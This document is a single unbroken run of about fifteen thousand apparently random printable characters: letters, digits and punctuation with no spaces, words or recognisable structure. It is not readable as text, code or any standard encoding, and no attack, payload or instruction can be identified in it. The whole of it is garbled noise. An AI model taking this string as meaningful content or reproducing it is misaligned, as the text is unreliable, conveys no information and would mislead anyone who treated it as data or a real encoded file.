gLYYMK[922tqSh>;5J|<_AP`hR`8YnI@Tv_YfL/w,%0Fby%`FP6]z7vFoO6S<w[C}_=,T6@`ve4'3ghF/`%WN_e&Ma6SqiePsNw&|N).gQheMq:O<hA7yDtS,e<HWprPF^+{S>1vJ^geTXp+b6#$Gjg=GB#D1O*r0T}MJB'<B.)3aO:ph(HcLVp5O$]'44aZW^ggIJ%/<5Ze)BE$-vBK<_#Q'L/g,L4~-br[{2SOVMTF9_yb<g8%t[{%O4x9qf|3=(@iCZ59ih5ldujgdp7eUDB:qE9cy,~-)<;)y0g6h^O7Ge%6gs?)^_^f{vI%W|}7Ig4k)H3yS#Adn<So~^P{MN:?$M/%R$EVP0T~TL?q*1,&GfJ^Qpqcmvl@Nsf4-Y(A&;-.[JC[TCy_+zc^s7NiS.v-m)(|fgNQ1T7U>CT978>*PCQ_Ik8HN%b=),9dFTrt^9PceG|7$B)d(jBpgG0IlpM?A%BTo{*fHy<{}F)a.}FC@m}8q@)E3q_y44?<$B4)O|&DYEJJ30[lk#]n3iHS0M)hrm-.VltFARC^$[d_XP+TuM*3$qk3Jev*V=q2NIizrh/fVp>U/P:$xgjnZN`Jl>*36^U<Y4o?w)XgMWNLWOAZ4FL.2,pmtJr@<8_OlC2.O7n[{.;@h?$+Q1vj~I%efdZ%cn$o/zD%^h*$Qf'0d$s+}5FcckeRSjQGMU82nG0Ycn==OfU74&L`YqH.Yp/IR9'%*Y7NO<+tG~P#f0h<fSxVq~{yc>4N{|fU@LD}/,/b36)_~7wKogCnDH]V/yCSM?786>?i,+HXK]?rg7P~:rodeSjCnpi-W)p8]o37j.XtwNtj[li8qV<%(L`<g8R%U{N[[E7%Qycmu[A3cXD6Xf0.0_p@L/DH#Xh@6]~FuD.M`^:Szsk<]ku'Z#Wrc(&%M+@wXhMBCZdL@yn=.fd>Q*?.dB-NMF@;5gC._=q)nt5bBFG}_J]P/-dWouZ_wRE2O^7q2OVw/oo8Uq.Y1QpA;Y]4W7j=++y(nuS;CNX^x6zrGl}#(*}M+Kxk3>DBj@>Yv+P8=OoMKl:ORvu&9+OlO~xa{[_,s#Si3fU;3vw;bjDPg$z0Rb&`Fq}#`;?eCRF-zwhm}c;`z$#V^VB7T}k<2XaF>t/T9Bpn9G%8${Ez*t_+=,g|_I837d>}8$Y.}2Sj^hz>N|SszyGmE*Gg;J4g}j01+8inmLdfTbU9qK6aI:ULgd3hgtfEYxKVUh2z1To(6_G;>|1S%t:[Kn/TPeJLxe//B&;ecy)O(?pc#8)=Tg~fBomEi|UuQV@Yu2HI?865&l&[[U.m4nSw]cDKgTb]-V/i#`,vtpLbfvhSwry'zdnQAga<#Uz.o073_Z}$$Lo&0zCfXy#|7^VWx:*_3:RKj0sgsg_.hP=z%~vI+hh<g@TM7qKg<9;cOYwZ~^ue*~;T$f:P4UB6~y&X7`?*SqZ$Bn<C0O1N47v9{*`rUPi*9xU5PUgr'[3Slw$;7*gvl9.HA(4jTZ5N]VeY<rD]e(g5oI0+WC_/%yQj$=mV$cUGmzj2ep8LK2SkNX]<t^eeJXrh`9`%v*?X(nSm}e];}o'Kbs`<wK`EP@W4~}hu&K?7V36?|+Q**>mbUq$qu^Rp-_3Vl[FN1}C|DoPj1`@=Z{}3Lv$,Gxbi0Zi8yAnQoZZ)nyQc$iD|Onv~kKJ=odE:]2k'**@F9G013euj&*15;y}wA&_6:sQ/'nLA>F_(JE01m~q$Jm-s3|Vw.m)5L_Y[&4F;#SE.Pqej/>2yk`Fgs0y<kp7&@R'DCxPZ9HEjyS4I`y%PLG>2yW{x<UKx$tagUC$xXzHBW<6gRjq(MQY0(JAcyVhv0su|f%vjq'[pI<kVg|./@t+RI4P>p,ysW[ta}C'x%6k-:jBSkmU#;b~n-i[Jk.k8sg}:l?Pgz-Ka+&%uQ9hIfELt#.<@=fbT`c]r*H1$96dq%f5uokfVkR47^a5TU_J--qqPPt]lcDmIa~oqfowQUsQ/_lFw~=Hg9#^D=cvq;vY)x2pZWRR:TSWG]EqN}r#It:jAh8da6gbG{68gUZ.-?hUt[^g%)c&iDb/kT(*-;BdHIGloh.8B|)y9BB9Md=$pdnIxwuy9V+wbs2^p+d#3{Z$kkSS&+&BezlN8MK{qus[}8#R*HKp2^a_u9uGkfSwVOMo[~E$'P]a=y3|2giQfShU8%8/ke:F%WGHas}J<]yn8@)2T,YDC2V9,DTf$-Si}5I'=L97&DjkVN[SJ}BMH7m_bx-,&zvAXa),vmsqPIMEgs+mK=(HsoG]qz;nyW/n2zBlL-TvtuyB=Kxm[QY0Th%k-.CJvZDVx6kE'saae?_]f2JU;#<fj0IdHPlP}2V*C8[3d^01Kkkws4vZIaO-l<0VCX6^kR.pH@H/.@&HLW`+?dM&jbgv:>]LK2(Z@.bx,/]>QiQ-,r$o2N@|kNguK2TCLYG#rLqc1kp@}jX('Rm2~uyfXVjB5m),~-(3RnF+V/T8N/r1LWH.DJ7`[4>V8BQ6vfN/YTn'PG<vG;qqG7V'$%5BNDmrdkqMKpAFiDN}3#Tc:5c+a-]aAst6)HZ(tRrr%S+|&(sbeg+*l)]:m?{$|d?Oaaot9H$/#U-'aoNkd|e2'/U/RP']T?7t2HkiQHjc)$Eu~L1_5YBS8:;'m.NZ;ii'|Rrn,dVo5ISO?W4lCWQ${h9db}h%Uln|CLB=~XNO<$87I7&tVg3H:lj6#m7xKj6Gx$dixl<CnIqE&m-z@TFuS9ykOb^'N=xlz{sBG=607L>Ejv=.2i7}'Ht;lil+$DHGjxe}w%y;[{@#/8:w~~d-6Is,h=@,g*22WF}BI>J=?,IP8S6Br/3%GgG|gdN8R&r6/fX$+z6@(>'1cvtk(VjbGuH4:OPDM5/,dOyVcdj$|rsGs6qc8qp9iL[W>J'Q(By0zp0~zzM9o9G(`l>toYX5Bdb:&.5@qTHC%gy6l6c`@szBDE_>c_PNlh/EZfyH*Tx-&N's>-XWPmNt+gn/a$?L'N^O/_MEnWu<QHi{5|9[-)_&QfsVN?zXRi~a:]#&phH_F3sHySQv:D@af#K#$o<bq~<.jEhj*<^$r.-]P<lz`<n{'03:l~XpG%mr9_MV~DxH.fMv)yHa}@E@%0{ukzKst*Bt&Z&PqO5V]9f|;BZU2#R<X7b(S@XP_+G4(E~gdOqp.W_1;O+$3ZMg#U$21PhU9.A|l+&Mf]1gs-$},6RZYHn%p1sL_P+&zh%A.nF&C8$$_XqX2csk/OZD8mK_OZ%&0hA4#nDEhfCU{X;9Gq+SkW&Wtwsj~,NPs=S/hTlc-Q}PS>8nQ..|#X7aZfyH4~=>vdZz`qoH*=mW8Tq?T:-/EmZ.FD}.fFIr%:;.7g^qlDEHtE:O([)ZR.{c3BEW]-p(&8kdP3VL2,.C)O.*p,nQJH*'3eI|HOSPkH2sS?v-l~W8kGp8mmyV_lQe&|IXQWi;E,f$;9fe(mr<XYf9:{HyJb+g'<v02cr@0~4%t*+^Es7WAimealt}D66lsB&gi@fRyQ}Lpg@CR`ZdDZarWF&$&2Ik}zqRNM'k8^NK#I<=#)N*jJy0{NK]T)v1&R2iK~Dfu+.3Q`mY?Li8h.ShU<|^rjLL]uDG}90}6Q++J|f?*A3Rkx,Ku}^R?J=S:q1s2HeoRIHsmE%Y6.%/h|/3_=aw_nbpb:I3)QE,u;kv,5,[5Xhy`,jQqmnD+fiJNuxaVNJWg|O{A2vXYOLIeR5$[^&PUq'aUl>Edu4>e/qZ8w27$}tu=~I-qxbH:S=&Yx'StG#`.f3N^==gnT>:>u]fF?FD~nn<l&'4Fg~/K$*lq{ab=P]wLiE'u8EkmH'~ARmi$-?AMGbu(8fOYJ?G=/6>wG'QZ1j)QF+'ECx&9l&@+zUVJ2YW}[oI-K;G$:%,:BiG}5YxkUU+jEa?$`~<K0d4g0o5FKSol<54{h^M]'.)Ym;VuVKG2EL/gs;ID_65j71nRoD,++kzz'Yag8r,hzgvT]c*Nv.CEeX~[V-.EYL2S;^da:uc)BVbn}V|zJtPQ>Dh3OrJX?'c}@+=lyjZt3iLo8b1ZuWft{C.Vg*H^vY?DfYr?YK?E<m/eQk>P1AC~bj|REbpVqIMu%Qh:r$9ESXn%W[~NRXR+=DNc&W-GBk}w*~$Y5liB9Sm3v_BEWa[~2_s]LAH|~3mU3PDbuONr.#y&8kvJ3Zi?`<TtACFP}ufu+BdqC?v9'`(#v-<r0<kVdAf)[]5WIA{pk@Ozly,N@:gkzL~{UEi~917%T_WT--A%zb5XWk7fAtukMXL;p~wsO<[|<2A,j(lK7rpgyW?:($T$Hl`H,}ORGuk}FM2M&h(BR:Sf|[JQz9NHZWV8.'IiJ3xP`J;}6I'Uut|us6Ao{-W[Syu1d'0f]{da)ELg&4xdILsY+yGfKHj|sxUCO?s[+uGW|o@T0fDnfwy'ur1CChJYF`}T.%8S{dime>qRFv5<%7(~WQU9|;C6JWZ41T+Wm'j;]hLoYxSQTA>8gdqkdi+)73qHi`CJD~|2zJOLS|U$7By/'&]fI8@-P-nL(5M,PMdwLmS0j~=t<aLx)J>=,^0#8yIoHf)*2vI]7Dbz&J3tHyl*Z/t6{n@6+%M3DlTUWX2*|f{9`3cYVidIMyS@ljmX(<2Aks0>Eb[C=]d[Op=>aP7iwZA2/vn^uL`Gj1Ec&LURcmP:NqgV(C;~4CBpK^@G-I%)[H.oFupgR=o,&Zyhn+V54ML<n4#n9lCZ$t:{F{0kB'VuI|f.=HVoNvq{%6SYSvEL4J.J~tw*`Kkcp~a)H*4?MNwo*Xsy<b#F5E,_$9Q-Q;(KTq:o:l_IMcgI#467m[DZFE6G~rD{ZUh1m~1]f{/|{biKun(GI_1L]}b%UNOjG]'icdpPJiI5<}-vTi4^|(zdt=YAiBq]@_R:]:7Hsr,Z&69?A,k;Uqd:zIfG%RJNIt4w7CfJUNNazc<mCucg%[<S^TeQI.@B,b///0|V3'uXK{.CQQ7'3^lYu-uBVac$Z>'g$$ET1U;/>T`ew39@wYawxV-lRmWh7zd?4siUTYmgE7~~Y9D54X,IQW$)g%]9xi.}=l?mPpE?g'KMl4Y,S_FLf?@uGJKkDq+q`3*qfOZk0,yCu^pdRdIkHOX?I%-.Y#@~qQKp1*N[a6Wct=9%qtMoyaPb)}~gy<3`&v~-ua&;=}KPsd@/Y4bCq{B+hSy`$.h::yrzc:P/1/sbXe@N@<1(QiAPo1~o.']mh;>6S=r^YzknP0pOV8y9uKI2ye&P(SyZb7mP49v`|ZcUe;|2Bstyk9mIWh.ia8fG3psB$he,zc,+'yC_l#<G.qI#&.MI'QshnUonKm+*Lb,_8/0bV34U-N2k?yRzMaUvZvF))RrSk4ZobP?wM^`DD~x#cyo}Kc.[^nTW6gKfwaI<vyBfw-xs,oss6FZS+A/X)2=e%%1ye8?3=VoU_ZYneulwR42OWDDw{Pc|$;cn]%v%z,Ib*n1R&BuFN0EQ1=c)F*KOj@G?vo?/Ypx6Oio^>:n|I2B5I~3*2'jqs7Yenr3EMB:3@F9t2^1Ukh?qMM8Ei|_qzpcgOr$#XU$3+e)AXI10hKm2Ze0Hg+;e0@t*T>cc_L`jm,G[iwk~aw5hE;t00SjCvr<@c.v4n3H#6sa/yGo'hh9Vre/<#cGulo?|&Yz0[2JB>|dc.:uFQP%d@F2twc=r)3p`Z[c@V#4X4uONEp-2n)]K&:Z^i_XS)vz,]X7J5IelX}<+=[~e.g|pVD_/;/{'><@:aqE`t{%[4oO,Q:b&]iY.51]4OKpx?16Qx<X=ji0lol=^5hGv~9N;817mZj$PimUCjMw*?il57gnQqH)d0kVe7hmHNsReltym{ijd<]]L:f}_,%O,[YEm.A/#eI-cb7EvvU4W46xBy/XQ6jM^/@n&gUs+x0v{-zZw0B-'-#kIUR$TyV*.LQ66VFhpO{j0w5a(S}?%0~-?u/3[:vizFgQXgpLaFInV%U.e.,X,CfyKHD[[;;x2XG>FbBCU1'kp3ar4-3{vF73l|W`[FKXn#$#95z2.BQJ(.VlZWjRo*>dWlFDA2$(:vCHw-+=TfvZnbt1n*fF0a)L_<wCP~%<.4EZ<d4U`{EFS5,#Wg}u?hzalO72o(bW~__vE]8p(fbySOGc.nrX=n5h_;$w[iA'`#sYY:v9C:*RU-(juq`^I7yKCbOtZ/<2EG?C51B;FTn(d^?e:ww<1.w%S^}SyFsE~?-Q5Lx#Wv1;XZ//=D?^/CYuqx_UsTr:^?=MXI_YQ*0WX2(|IC}9VzN9;E4_xIQfXBeMp5Yw0.Po`KvSz3`rFa#lzya8Qp838UZK~g9XJ]p8Q'LXEN'P^{LEni?K#GfD=p>VrcqGxxD)x*1JGhvDy#Fz|>S{r}@B^d3x/,v$k{}8I~+AQ['R<^3-MVCAqktz6mLoOLN_dJ[AH2r%h;kmy'C7sY}E=>C5hJd>VS`ps<%Di~DzRALqf(8/931nqH.ky@Y*0$m4v|j`/?~o0E>M'~;/5l'<V|={|)6/ubhW+M<ve/Z=5~=s$04#<dLjEcgH$o$H:>d[[92h|{Z?,$$v0Vs3,`oAwWM-%/MUZ#N`b9g@rZJ:%i`LB+bP_Yb;yddJ;ol|.4;dGT5'ySf~a+(K>Zl<feji@<cTp5O%cW^pL.na&@5KN@B|QS0|}L*,ntb`C3`<m^tIX<P/ix@(0,AD{3b[.J80h>3x_;cm}A%.|J:zk0.nj*Rt#$A+<Bwy6Q)CiQ$8kCCMwC2j2A$2N<A;05_&AT(S)OsN?gQu4HNSVL=F=kn__?U~Q.j=a$C?cuV19H_8Q~9f-KNc;MTRs&2o+NE1muo>/c,gPB7v,cu2sUAI8:Ty=^}5zLD}i+^ptDxCv1jGD^#%OR0sY]Yb12$?d3L<0L}a/4<NN_}p+cfJ[ga/$G'#)K54h?@+*sBFy/LX^ZxxY~H/C:4udnL3D8~rA@&e<@*%|0c$f%UOh>y/M3W9A&?~B328(]d-%ImKfjYhH]WLK2'6%-_fyCo1WsZrBjq~:nxy::oO0^ES`ZnoXKMG|EWV'/[}lRu53%{;EQ8{FM|l5,:LWzp-xOtGLz:ER6?q*'yI)92Vs60qD1{|8N#-Q?7]Q%$TDE$R)%V1Z4xw'9N'4t)8-ROb)9Hd2Hia;/0LiWg4gJLgh3#pAx.1kPLAp>aFw'-P))l>cUWi]iO4d>%.(%YZB,DB0Gy4O]mY^}YxQ3fOK@.>ch`HnFT<v[twB;SrU^CGQ<}Ry'sAPjubF?&~RMk.$1R)@@g|o{CdtZAu1x3rk>J>;dGHE0$Ei*l%=VTCl8HC~?4B;$^khab>z~BJ2,1COChQ&yYvQ([?$c`~HQ+8|RYAK,/WN0+WK>FEOi{kqIB/2F50Sa0$PQ-5VgC+{^5ky{)$-?.(Z7V*O`>d'v{kD<k.ITRN%x@}Y<1rla'X*Z2aL~8S`YK2`r.r87sk}@@,v<>@h2bZAaWk-JcKfo7sZ{r||~RjPyyx)z]5{a?@&/}a59)cn`)eV,~T3`6aw4o,%06#n%,Mdlpkjh;Q(?[j1{(UOKM93#`|PeSk2>uCj2Fjgq/thZdhG-aqcC`:#jItD^#N,Re7zNp2H6%:Rqd*B[oy)K~L=_1=19d*'uO`'FqWpPOKP-?[q>n<n(FI55ONc2OJCO'Rm{<ZL}PZ%SCobcB_b;B5l-zKkM]&@@jKyQI4<hGvV]~{k8V:Qft.(xG%Jpbr$$A$zgi^^E%dI`3ZTIF;'Z6,t@6c_Dd4jfxMWpEJn&6B4Eqo/bbC$=oQl]9%Pc+XKyH1j'pG@:}}>RODwkdz$sAh,mq)-]4jWnaf2Bx$GobB{C`Fyj^Xn_cSYfdrJSnTNU:2|5l'dHLr0r#&XLQ#YC^[OcF;;})b5uk9<6s$FEwGi~2PW7)UyD&QUSXw:qtBgKi-*OPh9xvk562YhWvD~|)wuV*6FENP)p[R&%pVr`X^0oYC9KYD1Y%YMLS,QU=7N_,&r3QfhoBWP'@eJA98#Fdr4*6GuA<K{)y<x]9QhKRC0D:$kugs-g^eaPjtQ/Eg1[<OkJW>02iIE8KJBD(T<EEg@PX5As`D%>abd,RKYr33f>]SsRO(p&[FUg=`W5<z7A.z3Lm@BVY5&(AjFZ_prz}:EaRmDr-kL=FMu$JiXCCEpyb>w=_r(^|s@zR3f-_P]?6x;Y=`tQwVwuek)O5F@f(4rkI5V>D93|xeuurfYVXltl'lgbJ*ar>v(HgB2#rO_BP36^hIE^?z/$-z2%4x4`7(OtgDOa~}0^FOk)#u0ss6qN2=|q?p]^2wR.uSrlA3o=nKh*$M}%duRmVWPmtO-Pnd}#2J.K#@a]'.iPN)u_E{Yb#wO>sQh;l;Kz.*#Zg,c(Y5IS0'.G279kvelJBc&?%{8l/`dX_w(ibJgO4q[60V116).1YE%ovkIb+O./gT?:U@;$,~Ke_F(g-}`e?UuQ7h`Y}+Znh-#u26,0rDoP%=.TmUNSa;-V|?8*T(zM;X$-[H<f9S[I*B2Z.C$7J7ss_&'F+G>/E|C5}Ve_D?.Qazbmmw~9I0N&.ImU;sZo=;::7qTa0WapAeHRtR]Ot~/oN6Hr/uEe%x'1VvYtky=KJ9a&8P%R,|Y2CY.94&}'sD=U3n>Y-I##`91CdNYT-JgM;d*qP3ppmLOL?^|$gBOah%/x#hEl?pwO:AGY_c%CoxIVQV'Q}rWK{+cv3K-LDa7#m6:n-7-6ReewApbqc&{GW?glJnn|$N~$}7i0RL(5{O$NROt%.b*h?NJvF3qR`^egF].0*T1E$)(YQFhtMZD>/^#s<Y8g?vI85KXrS[I?Lq+)TjwC+/>FZv~5G.W*D4;_&;EZ~RTRW#k}6]gOwC#TBR/]LEV~%53VZk)0&]{?ExDIHNmMLo(p2X0H7/TfLXZ=qjum>uG{_o99+D4RoS<EP{OO^}~bbw2{x.[`W8|3,k~?7H2BbJvV`UVvC1?:.SkDI=BA[_+Emm/o*kB9u$]{lG.EgO+hN)+rL8>~iv6V;gjR6+f.E9cib:f{|#]^%`h4EYL5,erpTsf{Pi<L4XsmSXYFS@sQb%;|ZM|'Z9e|#LBhpF{<T=DkLNi`w)p6O;1&/zny5SC:@y%;Mzd$)ozgELd#:i4:lQYGq:AD.D%)Je[F}FP//>gMkdz$_FMZc+7SH'?~2V6EU3Dqcm:9'uyj>_acT3a}g9Ldf.z&qD(7fC8Uj'F?ti6t0#$pCoPH'.AJ5Vv^}`%#&3fv<fBv}atTn7I$N^Xu7%i/#:i)-~6[RfC01Yo+wX:6yUR5CD2j<m6KY516?6L<9m{N{P%+R=rp?r}hy|:JBN41zdI+,-UWR/eQ-NQvj(plY]z{-r.&:U=wy@i*rjCJ2PD%}nHJ7/}STy;T0y`6::Wd7Hr]0+J/Ah0[)M6/f%z8+7|.}G1saZD]B*CA[WdY[]Z@MQ]<vSAv%6/G~r<}*5}Yzg5xY'MSw(zSb>N(JRWtT/Kg<-`b<r$Zia_j2)7Fjrcpu_;fJTzo:_A/?H`pCQ**CC]j0'idIL:wE__H2OqqCIps2;WnzV=,wUlr{N6=/ZM_t7VEcMc7q+]{S/'Lc:Nl%nU)':QAk48uC7DI3xw1'gYF3+6R[L~T,]H^i5$N-{|a&bpdjn{s(x#2i`;([yj_fvC&7Z*jJlo,bW7,}TcG?=H3Uu0's-S'd3EnBHnM6.{P2ycW$GY9dCq:jg@FswdlI,jd|^E1/K-h9~x8ZM>N+UQQl6;|Kdh;VF,@~1MWlGFTOdIn}iQc9^++D*|0H.I;d$4ovCIZnuNVTuHN:,iL$tn1KxfQ{eJLVP7p4Fl:r/lbHCo]u^vg_V-Om]_+Rw@2SYUXp8Ivg4t'U^`s,'K5J~vdLKuH})nV[;SOBybVD??QGM$[L+:}Rbp,Ac0oSQsGfy|qazQ(AG<`i^9#-m;d|X2MVhq]*HexI2e{LDFcM+%9F>_e?p<1iY2di7QWp`S<1/eLmr)eB6pz'g3Zlh%*qq|.i%?|P5ReUDdq;?ck7gntIa$%.4%cs'A)K,-u'3kfd,FBzi~k~O<CHoV#2tZgxpF~JQYsg$XI?I*_5,C`+R.uIpz%|uvhx0(;GFEN4uyefwx:%CK[oRqbEIX~j(P5tYkX4S>|/EKY@>H)~xD,Ilcr*bW$92t-[$mH2yKTUY&y_*0.k[Gf0X%aAI[6au)z~0ZgjuevBUQ.`*#FWn9)3?ME34.cAd+{:*vND90%W@7-PiPo:?5w[Bnl[~M2]KY/+BiAJ<%&Dl0E#x`C&XGV)tMKw*pS4Dh)x.R4MULB=Af1cP4ZKD=2=<jaff;FswEcC+OFqXLW;6VA^#/APRJr.B/6t(';h.G=9fyE@YiZ[d~RG<A``29bQEk9Dw>^IV:n.%Z%Bhu_K4z`.x4%O,Es$~oV%5D,s3nL,BpomqXC{{.sIH'.YsY'PUw=kB*p:~%_._3[AMa9E{,>9@#YSgYJy{*i<}C<h;4WB=}o-<5%/w7$2I10v3oz=i~XQJwbK>VPZoB?gOs)64D~Nly/JIk1GT3/L5i;9m.eI.}[~>-Tvfq|*$CS=&U0A-0LXr38>9[;fVZRjH|TXuF]Ov;Pz/Aa$yB'C#Uhte}m=#?gJO5rudC7@/)'yr6l)K0XntlzI>P2kF*nP=dC2gSSDx5w[TpmR}V?+]r1QN3e8f-Su_Mkv%;'gGTluDD9%3UGJ~9fbAWE0.:%aq|A*WOn9sY__%X_3q(pc~/nlir5N*|OkR`-tt@^v7D8^q%ns7rQ+nrR~2CuMlzslkOyQK5z,[IAoFCkV>;uJ1Q}v2.5dn:J`)iLPNDsS,=nQMAa*DVrGDfv.VvA;Rs;RN50+PIOuzEOYq9CrO/jiAs.3Cw+2DQ#|Ge3:iG^a-[%j=PHOLZR=Ps|_>K0V#x_NU1bZd$fF'6*a4FEX/L3hO86nwG]o72$WpL~*]N/^Blbgr.pA>6vVklr$$qL#h0t`y/1GBC1TpiJs;|?<QyR:PXNPsiPZD<}%?T(NL*/9(k)>fiXycB|YVP7H]*&U64DUJEx|kx[9$d49Jq'??{Z~/r_Q+:D$2U/{3;C(3Ui&9oE3o'9TqfxT2VDfP.$`snEYO)v3%9r}?Jg4O62&E1xFGU&kGt[d`zf~,W'e43F(z;^U(SycQ~Vf(73?W0A>3Sx:jhUp?7Z.i5sRZKj`plwcZ3rI&&aq|8PG~{`9<#G'Y/k*='&V5c(hZ,{3=&z:R(bW7;$;9UYQyjY9Vz~<v0S~Szx4q^v_~K%*Ey2wkd.{t&(b*O_E9/nFs|wZb2)P~KGZ(9;CZNnt+'FDyEaG%m]vog_q5CoeB(UDV>KrM@bj|$YWkR_3*H(hzlwJ,B#jXBZK_*x'2Cw}~/;jndJC#7|6m08Bo^f565:Rl42uBn|Ev}+i?nI/mS/1IpaT7QR@YRcG2@M*uF?#MiI(##v3&XEL{c[LjIOuX_Hj<<NA#iP9?T$pH]buks#@'KFdJP[~tIH)Bgky{V,_oWj`GTkqs.#jzKvsg*U4Gl$r2/n.E].upuW.eT2X/xx)qJhYBKV}j#HK@q?>T|U'jR[`/{?^r9O'3+}Y0XfXJS0)&G'T).3]D?Ez4AYu;*bn1Bsx1iYF<hsX(1jc?w1e4MQd'd<u]a7O]Nnx=8%$lB@z<uwK-b(b3+dq*DwGw(|QxaU/ZMX0W,>xOqHvtZ.W?qlp*)XcY-^6}Po3%w6Ka]+JG5){(F)O/kyog<[x0[#$-`bIQ%Jv,{HV^SCo<@uAjM`;IFMW-wF<jQiZ$?/5vNRZK3kQyr0&]Onya'@5@V7:qZ=v33d/zgRcmmuSQt8#+G-ab6F$l]webMUi*@K.idpXWu<L@M+]ww:f-35=g`A<T+%Pygw%-].T9:U/NO2IRhkW1i=|G5?t,..{(kU&rk,vS{pQUlKd2s,C%[M[u&0mst~MUN#O}k||Kny{.iUQ<HtBD$Reon5h@s?ap2u2mYWnHk2^}x?m{CpcVG6GGBVeQLQi:^/TrHP#HSxA7PkS<3>WQE=0h4mhjC`xmSzi</^o<88Wj?5}Jt}c6~#X~]~K5@T`-M&(=%3CcwJ*_?bIvrF<N:GLb``M(,^C>'`<09C*u4wPcob}?J`4GK%v1RyIB0'o/x6/$3CC/}4=*rpd6H-gk;_&1xmn.*A<Z,iJmAYT+x'ecpVDbR3Ml+jjE06;Alceny?P(iBf+]Xej%2OC=:PHzs$r&314}a}a1=5(%}[2:yFXTt`F&g0DxvTYq^}4j?E}-6H|Hi{jjq%$,97c%|+UPp{ExoN/|%Kz%ymQR=Ul6_H^e^vM&XqW%_Gm5+Ja,HrVPW73L`ITswe(qnT{QI@lot$EAw<^c5rRVQg)~3@R4(N6sLMLOBfJw@Drvn0YcpuMj?TXuYqoaM`u,=:M<ey&-*|Fmk(g9I=96l.[%#$pH2]nqlfWwPi](BlsZw-U:DiT)(y=6SNEngo1gn7eFtsgx&dfb,L_v-<fIHmOZW&}Y#v$NA#/TCEQq?cF<5wO+:aJ@TnvhB:AJC;,84p>YZ>h)K:16hPWqy;feoO*-g^<5rC=ey5>ADAVk&KNK_=%'yz~o;Isi~(u~Va}7b.*JZZN~^m}HhKtMRCJ{8TZT@t.rSp]sX?i[up9L8v4BPhz+ozIfYS`|G:XV;UYFTyMnD4'D=)CX@m5]?ELQg$oiaT8yG-Rzv=6-n+yVCTE?R<6j66:*A}ya-YJCr?sV>FholSY->$aq.6}::BEMw[Be7ts{_K$[^[Zbs8M;[M)owt#ZVL-0'')+@Gmhwk3o<m]%Ij/v{NKx&r93aATxy0bN|^;:/Q9V/K.PEV_Z{'A}T*RSP$0gV*Y'4_=:w7,VIa]p9oG)+0&#}Xsi1lYnl`pV/rR6+QAQmp<M>MV*#~C:<_Y>,*L5,ZCJ.YT7vP@P'YlMGSRI'$TkikQ9kYG@6gH^8%bUnR+IH?#OzXr]+'N3|Os%:-yT058J1WgbqJ6D<6Q9cx^U_7K..GiK,&J2.(;{.,Hg%oA`)vcg`V.#yyIYLfNToK,m?H4;aLZ,.@H%J7[;}ix=/AO'Z3zv/tQWmL>1$>2aZO^*<k39>r<L(ISKj'2B{Cm&q|vtZuW9$+?(=iEYt2C_7EQm>c.fzPB@CI0Id'$i[-8dl~ts?nVL$>T3b700PKhy>QMrZYmM,K>Isc|1zzo#r~TH?X|KZ1~dmmCyn2p,g(t}$<n)6W&j|aAwfOiAoSw}k&3?;2arV^NQUxWa`OxRP)=]8p1Q<gL<J'9(bRv3IZj:o+U/q2~p#sncA/o6h]3*IUu0SYCo-dUMeI]9m3Z%)9$Ws2n(`J@1q3EjE'V{8O]P~Se><{|gvOw5Q%O'5&O|9+;(&sZ*w-@_[#B.xgKn+<0)mP3{fSiQ1GzP|Nqe-Vr)1uyg6el%z>kim*t?u*F-C9e]TQLEl%tR4k~dpBa#BzGUHnlVD9(zyL3Ocvd3/X^#Fvxb(Nt~L[[2Ln#9Wt*k=%Z>M@Crfbf|4iHnUlb<ivTnO|-{*y_*)dUE~(ixL*.T23s&zZ`]bsS}:@sHYy%?`'o?FdnI;Bsfge1/WG;5f?%eR{%kf<~<cuk(A#/eG:HBg-UE?Qi0_`9CO3;J84q*pgC2^]u',l~j:T23(.L$IFlO1*<l/wIDMen`b+c1PP?Ci$t6ZRk5=dFcMP;'bd+DJZRsNA=}Ga.q_^,ORJ_.jtX}]z<5;qdJ]o'_u]j0(L-*=Q&TUS9eFU4M%>Y/D>b-%Fzt9yl'<ai9NT]A-C}#zrQyx6%,_U;xV&UX?|L{)KNbOTlE8*J2A1Z,-[AZy6.R3Yhn9R,n2?fB#*M`mh6KFKiBMoK@)'mX,|SehT=AW1:7>M?xd:gRtB>+wrVbU>HlLzxt;`B/X<+;oJ5)e4S/38EoECzo)lns7Se]^D,z'@Y{z5N^I'xLE&BM61E{?k|B@SmKmav9zkCt?`02U9eO8R`HEnIA+,C:WyK;g-M.<'CDbBf(Gk?s{0-?QDw'5J9R=n%{bVurDJR~,y4%w8yAl9MAuZJV27)+?s,~n7tK]4[NyxW[M'O7khAQbsdCR0kDj@l/zAl&(A1<;7TwkH-2qko+|&D<>kSbR>wNktsn:z,Pp9TQn4eE-&jh(.+2oU3V0gJdG7]Qt.[Jf:7yTK=;@+?2-/oRh,M07p1f$;7XDbFnIa;g<,HM2Tao+Xg55fL0,vr#ME.QG/DZTncK#0w]|y%[Zvh$(_qVg.7n)o{vNpO`g=%$^tY<}^~_r<?{;|KB^/lDkWZCj[Ml;N@}${%6L@Z}_Q9Giu%DWa(f)DcVI~,J7`@`ujcW]DEi6m)I*3^D=/~)8en3LEYxj:#fBiy,c0YF8'0YP>tlm[7]:X+Uf)Yc+dS~8rm9sjj3r7[omhfo5=>nQE1JN]9L-4t$'][[rShOr^'v%rUJTN76HBF`LT?BX2AJR:xSkW2-J?rN>9=&|)G`}VP,)bdoe*.:7e^5'beT$?p*4`yf]eS(=P]gD@B-f*/ClJ%kJjlWjc>saX<fr8)hqD{e.(D-O/FhwOe;t'%`cc/p7_h.=wc2$^w7OuuL{]{.<=BB9B?tRzIn'9*4$~Q`Y)&#BP5NHiTK:M]|GU=dZEm;<o.~Qb[s=>E`@M.`Vx4BTjWAT+p6zdu,o]&(&ITys+0RF,pTLL2CWKoJTV3ZiWF-fvemHw%B'|p_4kmcOrcAz>T$le^LJ2kZf`LXAx,a@{BxCb=xXyo6'p~}R:v/cQ&gcSY:7Sch`#-B|d9$vkWm6'u$YX'8Rd320izn4[YbA`$@^S)j2X`A30c@)-p-_GaZ&r$*Z0o<YO5:H9G&vt68{*9K#N[[g`49xq.z+_2/lphW=3A>:[9/ewp9_oHjm/HaZx`|le^0@*bH:,K5^zP.pxC'guz$}TwJeA31U#qFHo>pSN8LP76f@pbeqRPv$.W`jm?ZEa5+`/Y28`k_xmP>x-@`gj|zYC554jYLG)Z^-)|}9J`PK&AC7MtBtvTlbl4^{.dRCvAV~y<ypHKJg+#KP9J,F+1]G/:Y+~,'FmpQPGjA,#[#b:G+w]r%uG7GKezaKt<14l4p7ogk]T;m_V(1eV1x`uu3~qb[Co]cN0kgfo''$~*OcR6{R(9Um;-Q#=8lc;*`6CItUb|8Vo,v{+[7,